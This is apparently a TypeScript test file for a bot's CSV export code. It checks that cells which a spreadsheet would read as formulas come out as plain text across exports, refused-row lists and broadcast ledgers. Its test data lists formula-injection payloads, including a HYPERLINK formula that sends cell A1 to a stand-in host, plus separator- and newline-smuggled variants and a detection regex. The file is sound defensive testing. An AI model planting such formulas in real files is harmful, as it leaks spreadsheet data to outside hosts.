import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { loadMessages } from "../../src/content/messages.ts";
import { createSpeeches } from "../../src/content/speech.ts";
import { EXPORTS, type ExportRow, hasPersonal } from "../../src/domain/export.ts";
import { IMPORT_FIELDS } from "../../src/domain/import-file.ts";
import type { RecipientLine } from "../../src/domain/ledger.ts";
import { csvLine } from "../../src/telegram/documents/csv-line.ts";
import { exportParts } from "../../src/telegram/documents/export-parts.ts";
import { writeLedgerFile } from "../../src/telegram/documents/ledger-file.ts";
import { createRefusedList } from "../../src/telegram/documents/refused-rows.ts";
import { columnsOf } from "../../src/telegram/export-rows.ts";
import { readAsSpreadsheet } from "../support/read-as-spreadsheet.ts";
import { filesOf, readAll, recordsIn } from "../support/read-import.ts";
import { aSource } from "./data/a-source.ts";

const { id: speech } = createSpeeches(loadMessages());
const FORMULA = '=HYPERLINK("http://x.test?a="&A1;"klik")';
const DANGEROUS = [
  ...[FORMULA, "=1+1", "+62 812", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", " =1", '"=1', "\uFEFF=1"],
  ...[`x;${FORMULA}`, `x;\n${FORMULA}`, `x\n${FORMULA}`, `x\t${FORMULA}`, `x"\n"${FORMULA}`, `x; ${FORMULA}`, '";=1;"'],
];
const SEPARATORS = [",", ";", "\t"];

/** What a spreadsheet would work out instead of showing, whichever separator it is set to. */
function formulasIn(csv: string): readonly string[] {
  return SEPARATORS.flatMap((separator) => readAsSpreadsheet(csv, separator)).filter((cell) =>
    /^[\s"\uFEFF\u200B]*[=+\-@＝＋－＠]/.test(cell),
  );
}

async function textOf(parts: AsyncIterable<{ readonly content: Uint8Array }>): Promise<string> {
  let text = "";
  for await (const { content } of parts) text += Buffer.from(content).toString();
  return text;
}

describe("a cell that a spreadsheet would take for a formula", () => {
  it.each(DANGEROUS)("is text in a line of ours, in every column: %j", (cell) => {
    for (const line of [csvLine([cell, "x", "y"]), csvLine(["x", cell, "y"]), csvLine(["x", "y", cell])]) {
      expect(formulasIn(line)).toEqual([]);
    }
  });

  it("is told with nothing added but apostrophes, whatever it is", () => {
    const anyCell = fc.array(fc.oneof(fc.constantFrom(...DANGEROUS, ";", "\n", '"', "'"), fc.string()), {
      maxLength: 4,
    });
    fc.assert(
      fc.property(
        fc.array(
          anyCell.map((parts) => parts.join("")),
          { minLength: 1, maxLength: 4 },
        ),
        (cells) => {
          const line = csvLine(cells);
          const [read] = parse(line, { record_delimiter: "\r\n" });
          expect(formulasIn(line)).toEqual([]);
          expect(read?.map((cell) => cell.replaceAll("'", ""))).toEqual(cells.map((cell) => cell.replaceAll("'", "")));
        },
      ),
    );
  });

  it.each(EXPORTS)("is text in every column of the export of %s", async (what) => {
    for (const isPersonal of hasPersonal(what) ? [true, false] : [false]) {
      const columns = columnsOf({ what, isPersonal });
      const rows = DANGEROUS.map((cell): ExportRow => Object.fromEntries(columns.map((column) => [column, cell])));
      const csv = await textOf(exportParts(eachOf(rows), { form: "csv", columns }));
      expect(formulasIn(csv)).toEqual([]);
    }
  });

  it("is text in the list of refused rows", () => {
    const list = createRefusedList(speech);
    for (const value of DANGEROUS) {
      const at = { table: value, row: 1 };
      list.add({ at, problems: IMPORT_FIELDS.map((field) => ({ problem: "missing", field, value })) });
    }
    expect(formulasIn(list.content()?.toString() ?? "=")).toEqual([]);
  });

  it("is not in the list of who got a broadcast", async () => {
    const lines: readonly RecipientLine[] = [{ id: 7, line: { kind: "sent", claims: 1, at: 1 } }];
    const { content } = await writeLedgerFile("x", 1, eachOf([lines]));
    expect(formulasIn(Buffer.from(content).toString())).toEqual([]);
  });

  it("comes back true through the directory's own export", async () => {
    const sources = DANGEROUS.map((text, index) => {
      const words = `${text.trim().replaceAll("\t", " ").replaceAll("\r", "\n")} ${index}`
        .replaceAll(/[\uFEFF]/g, "")
        .trim();
      return aSource({ id: `s${index}`, organisation: words, service: words, cost: words, eligibility: words });
    });
    const { parts } = await filesOf(sources).export();
    const content: Buffer[] = [];
    for await (const part of parts(1024 * 1024)) content.push(Buffer.from(part));

    const records = recordsIn(await readAll(Buffer.concat(content), { name: "sumber.json", sources }));
    const told = ({
      organisation,
      service,
      cost,
      eligibility,
    }: { [K in "organisation" | "service" | "cost" | "eligibility"]?: string }) =>
      [organisation, service, cost, eligibility].join("|");
    expect(records.map(told)).toEqual(sources.map(told));
  });
});

async function* eachOf<T>(all: readonly T[]): AsyncGenerator<T> {
  yield* all;
}
